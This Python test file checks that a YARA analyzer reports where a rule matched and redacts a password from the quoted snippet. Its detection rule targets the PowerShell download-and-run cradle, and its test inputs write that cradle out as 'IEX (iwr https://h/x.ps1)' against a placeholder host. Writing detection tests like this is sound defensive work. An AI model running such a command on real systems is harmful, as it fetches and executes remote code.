"""YARA findings: where the rule matched, and a snippet of it without secrets."""

from __future__ import annotations

import hashlib

import yara

from inspector.analyzers.yara_scan import YaraAnalyzer
from inspector.model import Artifact, ArtifactType
from inspector.stage import Payload, ScanContext, ScanLimits

PASSWORD = "Zx8Qw3Rt6Yp1Lk4M"
RULE = yara.compile(source='rule iex_download { meta: id = "yara.test.iex" score = 500 description = "IEX" '
                           'strings: $a = "IEX (iwr" condition: $a }')


def scan(text: str):
    data = text.encode()
    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=ArtifactType.POWERSHELL,
                        origin="test", depth=0)
    return YaraAnalyzer(RULE).analyze(Payload(artifact=artifact, data=data, text=text), ScanContext(limits=ScanLimits()))


def test_a_finding_locates_the_match_and_quotes_around_it():
    [finding] = scan("Write-Host hi\nIEX (iwr https://h/x.ps1)\n").findings
    assert finding.id == "yara.test.iex" and finding.location and finding.location.line == 2
    assert finding.snippet is not None and "IEX (iwr https://h/x.ps1)" in finding.snippet


def test_a_snippet_window_that_starts_inside_a_password_shows_none_of_it():
    # The window opens 40 bytes before the match: here, five characters into the password.
    text = f"powershell -File setup.ps1 -Password {PASSWORD}" + " " * 27 + "; IEX (iwr https://h/x.ps1)"
    [finding] = scan(text).findings
    assert finding.snippet is not None and finding.snippet.startswith("[REDACTED]")
    assert not any(PASSWORD[i:i + 3] in finding.snippet for i in range(len(PASSWORD) - 2))
